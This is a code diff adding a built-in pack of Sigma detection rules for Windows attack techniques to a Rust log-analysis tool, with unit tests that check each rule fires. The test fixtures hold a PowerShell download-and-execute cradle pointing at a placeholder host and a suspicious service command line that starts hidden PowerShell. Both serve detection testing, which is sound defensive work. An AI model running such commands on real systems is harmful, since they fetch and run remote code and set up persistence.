@@ -0,0 +1,213 @@
+//! Built-in detection pack.
+//!
+//! A small curated set of Sigma rules for common Windows attack
+//! techniques, compiled into the binary and evaluated with the same engine
+//! as user-supplied rules ([`super::sigma`]). The YAML sources live in
+//! `core/builtin_rules/`.
+
+use crate::core::correlation::CorrelationRule;
+use crate::core::sigma::SigmaRule;
+
+/// `(file name, YAML source)` of every built-in rule.
+const BUILTIN_RULE_SOURCES: &[(&str, &str)] = &[
+    (
+        "log_cleared_security.yml",
+        include_str!("builtin_rules/log_cleared_security.yml"),
+    ),
+    (
+        "log_cleared_system.yml",
+        include_str!("builtin_rules/log_cleared_system.yml"),
+    ),
+    (
+        "service_installed.yml",
+        include_str!("builtin_rules/service_installed.yml"),
+    ),
+    (
+        "service_installed_suspicious.yml",
+        include_str!("builtin_rules/service_installed_suspicious.yml"),
+    ),
+    (
+        "scheduled_task_created.yml",
+        include_str!("builtin_rules/scheduled_task_created.yml"),
+    ),
+    (
+        "user_account_created.yml",
+        include_str!("builtin_rules/user_account_created.yml"),
+    ),
+    (
+        "privileged_group_member_added.yml",
+        include_str!("builtin_rules/privileged_group_member_added.yml"),
+    ),
+    (
+        "group_member_added.yml",
+        include_str!("builtin_rules/group_member_added.yml"),
+    ),
+    (
+        "powershell_suspicious_script.yml",
+        include_str!("builtin_rules/powershell_suspicious_script.yml"),
+    ),
+    (
+        "defender_malware_detected.yml",
+        include_str!("builtin_rules/defender_malware_detected.yml"),
+    ),
+    (
+        "defender_protection_disabled.yml",
+        include_str!("builtin_rules/defender_protection_disabled.yml"),
+    ),
+];
+
+/// `(file name, YAML source)` of every built-in correlation rule.
+const BUILTIN_CORRELATION_SOURCES: &[(&str, &str)] = &[(
+    "logon_failures_then_success.yml",
+    include_str!("builtin_rules/logon_failures_then_success.yml"),
+)];
+
+/// Parse the built-in pack, most severe rules first.
+///
+/// The sources are covered by a unit test, so a parse failure here is a
+/// bug; it is logged and the rule skipped rather than aborting startup.
+pub fn builtin_rules() -> Vec<SigmaRule> {
+    let mut rules: Vec<SigmaRule> = BUILTIN_RULE_SOURCES
+        .iter()
+        .filter_map(|(name, yaml)| match SigmaRule::from_yaml(yaml) {
+            Ok(rule) => Some(rule),
+            Err(e) => {
+                tracing::error!("Built-in rule {} failed to parse: {}", name, e);
+                None
+            }
+        })
+        .collect();
+    rules.sort_by(|a, b| b.level.cmp(&a.level).then_with(|| a.title.cmp(&b.title)));
+    rules
+}
+
+/// Parse the built-in correlation rules.
+pub fn builtin_correlations() -> Vec<CorrelationRule> {
+    BUILTIN_CORRELATION_SOURCES
+        .iter()
+        .filter_map(|(name, yaml)| match CorrelationRule::from_yaml(yaml) {
+            Ok(rule) => Some(rule),
+            Err(e) => {
+                tracing::error!("Built-in correlation {} failed to parse: {}", name, e);
+                None
+            }
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::core::event_record::EventRecord;
+
+    fn event(channel: &str, provider: &str, id: u32, data: &[(&str, &str)]) -> EventRecord {
+        EventRecord {
+            channel: channel.into(),
+            event_id: id,
+            provider_name: provider.into(),
+            event_data: EventRecord::test_data(data),
+            ..EventRecord::test_base()
+        }
+    }
+
+    fn titles_matching(e: &EventRecord) -> Vec<String> {
+        builtin_rules()
+            .into_iter()
+            .filter(|r| r.matches(e))
+            .map(|r| r.title)
+            .collect()
+    }
+
+    #[test]
+    fn every_builtin_rule_parses() {
+        for (name, yaml) in BUILTIN_RULE_SOURCES {
+            if let Err(e) = SigmaRule::from_yaml(yaml) {
+                panic!("{name}: {e}");
+            }
+        }
+        assert_eq!(builtin_rules().len(), BUILTIN_RULE_SOURCES.len());
+        assert_eq!(
+            builtin_correlations().len(),
+            BUILTIN_CORRELATION_SOURCES.len()
+        );
+    }
+
+    #[test]
+    fn log_clearing_is_detected() {
+        let sec = event("Security", "Microsoft-Windows-Eventlog", 1102, &[]);
+        assert_eq!(titles_matching(&sec), vec!["Security Event Log Cleared"]);
+        let sys = event("System", "Microsoft-Windows-Eventlog", 104, &[]);
+        assert_eq!(titles_matching(&sys), vec!["Event Log Cleared"]);
+        // 104 from another provider is unrelated.
+        assert!(titles_matching(&event("System", "Other", 104, &[])).is_empty());
+    }
+
+    #[test]
+    fn suspicious_service_raises_both_rules() {
+        let e = event(
+            "System",
+            "Service Control Manager",
+            7045,
+            &[(
+                "ImagePath",
+                r"%COMSPEC% /b /c start /b /min powershell -nop",
+            )],
+        );
+        let titles = titles_matching(&e);
+        assert!(titles.contains(&"Service Installed With Suspicious Image Path".into()));
+        assert!(titles.contains(&"New Service Installed".into()));
+    }
+
+    #[test]
+    fn privileged_group_change() {
+        let admins = event(
+            "Security",
+            "Microsoft-Windows-Security-Auditing",
+            4732,
+            &[
+                ("TargetUserName", "Administrators"),
+                ("TargetSid", "S-1-5-32-544"),
+            ],
+        );
+        assert!(titles_matching(&admins).contains(&"Member Added to Privileged Group".into()));
+
+        let other = event(
+            "Security",
+            "Microsoft-Windows-Security-Auditing",
+            4732,
+            &[
+                ("TargetUserName", "Print Staff"),
+                ("TargetSid", "S-1-5-21-1-2-3-1105"),
+            ],
+        );
+        assert_eq!(
+            titles_matching(&other),
+            vec!["Member Added to Security Group"]
+        );
+    }
+
+    #[test]
+    fn powershell_and_defender() {
+        let ps = event(
+            "Microsoft-Windows-PowerShell/Operational",
+            "Microsoft-Windows-PowerShell",
+            4104,
+            &[(
+                "ScriptBlockText",
+                "IEX (New-Object Net.WebClient).DownloadString('http://x')",
+            )],
+        );
+        assert_eq!(
+            titles_matching(&ps),
+            vec!["Suspicious PowerShell Script Block"]
+        );
+
+        let av = event(
+            "Microsoft-Windows-Windows Defender/Operational",
+            "Microsoft-Windows-Windows Defender",
+            1116,
+            &[],
+        );
+        assert_eq!(titles_matching(&av), vec!["Defender Detected Malware"]);
+    }
+}